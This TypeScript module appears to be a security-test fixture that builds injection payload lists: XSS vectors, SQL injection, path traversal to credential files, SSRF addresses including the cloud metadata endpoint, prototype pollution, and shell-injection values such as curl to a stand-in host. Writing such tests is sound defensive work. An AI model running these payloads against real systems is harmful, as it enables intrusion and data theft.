import { hostileSigns, scripts } from './signs.ts';

const { global, host } = hostileSigns;

const addresses = [
  `javascript:${global}=1`,
  `JaVaScRiPt:${global}=1`,
  `java\tscript:${global}=1`,
  `java\nscript:${global}=1`,
  ` \u0001javascript:${global}=1`,
  `javascript\u200B:${global}=1`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${global}=1//'>`,
  `javascript://%0a${global}=1`,
  `&#106;avascript&colon;${global}=1`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${global}=1`,
  `vbscript:${global}=1`,
  `data:text/html,<script>${global}=1</script>`,
  'data:text/html;base64,PHNjcmlwdD5ob3N0aWxlUmFuPTE8L3NjcmlwdD4=',
  `data:image/svg+xml,<svg onload=${global}=1>`,
  `blob:https://${host}/0`,
  'file:///etc/passwd',
  'file://C:/Windows/System32/calc.exe',
  `\\\\${host}\\share\\x`,
  `smb://${host}/x`,
  'app://luotsi/../../secret',
  'ms-msdt:/id PCWDiagnostic',
  'search-ms:query=x',
  'intent://x#Intent;scheme=http;end',
  `view-source:https://${host}`,
  `//${host}`,
  `https://${host}@suomi.fi`,
  `https://suomi.fi@${host}/`,
  `https://suomi.fi.${host}/kirjaudu`,
  `http://${host}:80%2f@x`,
  'http://xn--sumi-j5d.fi/',
  'http://[::1]:4700/health',
  'http://127.0.0.1:4700/auth/sign-out',
  'http://169.254.169.254/latest/meta-data/',
];
const places: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">Avaa tästä</a>`,
  (address) => `[Avaa tästä](${address})`,
  (address) => `![kuva](${address})`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button autofocus>x</button></form>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<${address}>`,
];
export const links: readonly string[] = addresses.flatMap((address) => places.map((place) => place(address)));

const codePoints = (text: string): number[] => [...text].map((each) => each.codePointAt(0) ?? 0);
const encodings: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) =>
    codePoints(text)
      .map((each) => `&#${each};`)
      .join(''),
  (text) =>
    codePoints(text)
      .map((each) => `&#x${each.toString(16)};`)
      .join(''),
  (text) =>
    codePoints(text)
      .map((each) => `&#${String(each).padStart(7, '0')}`)
      .join(''),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) =>
    codePoints(text)
      .map((each) => `\\u${each.toString(16).padStart(4, '0')}`)
      .join(''),
  (text) =>
    codePoints(text)
      .map((each) => `\\x${each.toString(16).padStart(2, '0')}`)
      .join(''),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (text) => text.replaceAll('<', '%C0%BC').replaceAll('>', '%C0%BE'),
  (text) => text.replaceAll('<', '<\u0000').replaceAll('s', '\u017F'),
];
export const entities: readonly string[] = encodings.flatMap((encode) =>
  scripts.map((script) => encode(`<img src=x onerror="${script}">`)),
);

const expressions = [
  '7*7',
  `constructor.constructor('${global}=1')()`,
  'process.env',
  '__proto__.x',
  'text',
  '',
];
const braces: readonly [string, string][] = [
  ['{{', '}}'],
  ['{{{', '}}}'],
  ['${', '}'],
  ['#{', '}'],
  ['<%=', '%>'],
  ['{%', '%}'],
  ['[[', ']]'],
  ['@{', '}'],
  ['*{', '}'],
  ['{', '}'],
  ['$(', ')'],
  ['`', '`'],
];
export const templates: readonly string[] = braces.flatMap(([open, close]) =>
  expressions.flatMap((each) => [`${open}${each}${close}`, `Hei ${open} ${each} ${close}, ${open}`]),
);

export const icu: readonly string[] = ['count', 'name', 'minutes', '0', 'person', 'n'].flatMap((key) => [
  `{${key}, plural, one {#} other {#}}`,
  `{${key}, plural, =0 {${'{'.repeat(20)}`,
  `{${key}, select, a {b} other {<b>{${key}}</b>}}`,
  `{${key}, selectordinal, one {#st}`,
  `{${key}, date, ::yyyyMMdd}`,
  `{${key}, number, ::currency/EUR}`,
  `'{${key}}'`,
  `''{${key}`,
  `<b>{${key}}</i>`,
  `{${key}`,
]);

const sqlEnds = ['--', '#', '/*', ';--', '-- -', '\u0000'];
const sqlStarts = [
  "' OR '1'='1",
  "'; DROP TABLE event; ",
  "' UNION SELECT null, version(), null ",
  '1; SELECT pg_sleep(10) ',
  "') OR ('a'='a",
  "\\'; DELETE FROM contact; ",
  "'||(SELECT 'x')||'",
  "$$; COPY (SELECT 1) TO PROGRAM 'id'; $$",
  "E'\\047 OR 1=1",
  "'; NOTIFY journal, 'x'; ",
  '" OR ""="',
  '$1, $2',
];
export const sql: readonly string[] = sqlStarts.flatMap((start) => sqlEnds.map((end) => `${start}${end}`));

const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'then',
  'toJSON',
  '$where',
  '__defineGetter__',
];
export const json: readonly string[] = keys.flatMap((key) => [
  key,
  `{"${key}":{"isAdmin":true}}`,
  `{"a":1,"${key}":null}`,
  `[["${key}",{"polluted":1}]]`,
  `${key}[isAdmin]=true`,
  `42["contact.claim",{"${key}":1}]`,
]);

const climbs = ['../', '..\\', '..%2f', '%2e%2e/', '....//', '..%c0%af', '..;/', '%252e%252e%252f'];
const goals = ['etc/passwd', 'windows/win.ini', 'proc/self/environ', '.env', 'config/lansi-uusimaa.json'];
export const paths: readonly string[] = climbs.flatMap((climb) =>
  goals.flatMap((goal) => [climb.repeat(6) + goal, `${climb.repeat(3)}${goal}\u0000.png`]),
);

export const formats: readonly string[] = [
  '%s',
  '%n',
  '%x',
  '%d',
  '%p',
  '%1$s',
  '%o',
  '%j',
  '%c',
  '%%',
  '{0}',
  '\\0',
].flatMap((each) => [each, each.repeat(50), `${each} on ${each}`, `${each}\n${each}`]);

const commands = ['id', `curl ${host}`, 'calc.exe', 'reboot'];
export const shells: readonly string[] = commands.flatMap((each) => [
  `; ${each}`,
  `| ${each}`,
  `$(${each})`,
  `\`${each}\``,
  `&& ${each} &`,
  `=cmd|' /C ${each}'!A0`,
  `@SUM(1)*${each}`,
  `\r\n\r\nSet-Cookie: ${each}`,
  `\n[2026-11-21] level=error msg="${each}"`,
  `\u001B]0;${each}\u0007\u001B[2J`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "http://${host}/${each}">]><x>&e;</x>`,
  `*)(uid=*))(|(uid=${each}`,
]);

const marks = [
  '**',
  '__',
  '~~',
  '`',
  '```\n',
  '# ',
  '> ',
  '- [x] ',
  '1. ',
  '---\n',
  '| a | b |\n|---|---|\n',
  '<details>',
  '[^1]: ',
  ':smile:',
  '@kaikki ',
  '\\',
];
export const markdown: readonly string[] = marks.flatMap((mark) => [
  `${mark}hei${mark}`,
  mark.repeat(200),
  `${mark}[x](javascript:${global}=1)${mark}`,
]);
